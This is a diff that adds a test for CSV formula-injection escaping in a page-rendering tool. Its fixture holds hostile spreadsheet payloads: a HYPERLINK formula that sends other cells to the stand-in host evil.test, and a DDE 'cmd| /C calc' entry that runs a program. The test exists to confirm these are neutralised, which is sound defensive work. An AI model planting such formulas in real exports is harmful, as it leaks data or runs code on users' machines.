@@ -643,3 +643,14 @@ test('a rendered page reaches no address over WebRTC: no STUN or TURN packet, UD
     tcp.close();
   }
 });
+
+// A page chooses what its data says, and `--eval … --out data.csv` puts it where a spreadsheet
+// opens it: `=HYPERLINK("http://…/?"&A2, "Open")` would send the sheet's other cells away when
+// clicked, `=cmd|…` ran a program in older Excel (DDE).
+test('an --eval value a page chose, written to a .csv, holds no cell a spreadsheet would run as a formula', async () => {
+  writeFileSync(join(docs, 'sheet.html'), '<title>x</title><script>window.sheet = \'=HYPERLINK("http://evil.test/?"&A2,"Open"),-12.5\\n@SUM(A1:A9),"+cmd|\\\' /C calc\\\'!A0"\';</script><p>sheet</p>');
+  const r = await gstack(['render', 'sheet.html', '--eval', 'window.sheet', '--out', 'sheet.csv']);
+  expectExit(r, 0);
+  const csv = readFileSync(join(docs, 'sheet.csv'), 'utf8');
+  assert.equal(csv, '\'=HYPERLINK("http://evil.test/?"&A2,"Open"),-12.5\n\'@SUM(A1:A9),"\'+cmd|\' /C calc\'!A0"');
+});
